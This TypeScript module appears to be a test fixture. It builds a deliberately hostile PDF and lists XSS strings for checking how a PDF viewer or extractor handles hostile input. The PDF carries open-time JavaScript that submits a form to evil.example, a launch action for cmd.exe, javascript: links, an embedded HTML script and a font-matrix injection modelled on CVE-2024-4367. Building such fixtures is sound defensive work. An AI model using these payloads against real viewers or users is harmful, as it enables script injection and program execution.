import { latin1 } from './make.js';

/** Lines that a page of somebody careless would take for markup. */
export const MARKUP = [
  '<script>document.title = "run"</script> Ana Prado paid Luis Ferro at the pier in 2031.',
  '<img src=x onerror="document.title = 1"> The mayor Rosa Luna met Hugo Vega.',
  '"><svg onload=alert(1)> javascript:alert(1)',
];

const escaped = (text: string): string => text.replace(/([()\\])/g, '\\$1');
const stream = (content: string, entries = ''): string =>
  `<< /Length ${Buffer.byteLength(content, 'latin1')} ${entries}>>\nstream\n${content}\nendstream`;
const script = (code: string): string => `<< /S /JavaScript /JS (${escaped(code)}) >>`;

/**
 * A PDF that tries what a PDF can: its text is markup, it runs script when it is opened and when its page is shown,
 * launches a program, sends a form, links to `javascript:` and to another host, carries a page of HTML, and has code in
 * the matrix of its font (as CVE-2024-4367 did).
 */
export function makeHostilePdf(): Uint8Array {
  const lines = MARKUP.map((line, at) => `BT /F1 11 Tf 60 ${760 - at * 40} Td (${escaped(line)}) Tj ET`).join('\n');
  const open = script('app.alert("open"); this.submitForm("http://evil.example/")');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${open} /AA << /WC ${script('app.alert(2)')} >> /Names << /JavaScript << /Names [(a) ${script('app.alert(1)')}] >> /EmbeddedFiles << /Names [(evil.html) 8 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> /AA << /O << /S /Launch /F (cmd.exe) >> >> /Annots [6 0 R 7 0 R 10 0 R] >>',
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /FontMatrix [1 0 0 1 0 (${escaped('0); self.postMessage("run"')})] >>`,
    stream(lines),
    `<< /Type /Annot /Subtype /Link /Rect [50 700 500 780] /A << /S /URI /URI (${escaped('javascript:alert(1)')}) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [50 600 500 690] /A << /S /URI /URI (http://evil.example/) >> >>',
    '<< /Type /Filespec /F (evil.html) /EF << /F 9 0 R >> >>',
    stream('<script>alert(1)</script>', '/Type /EmbeddedFile /Subtype /text#2Fhtml '),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [50 500 500 590] /AA << /K ${script('app.alert(3)')} >> >>`,
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = Buffer.byteLength(file, 'latin1');
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const start = Buffer.byteLength(file, 'latin1');
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return latin1(file);
}
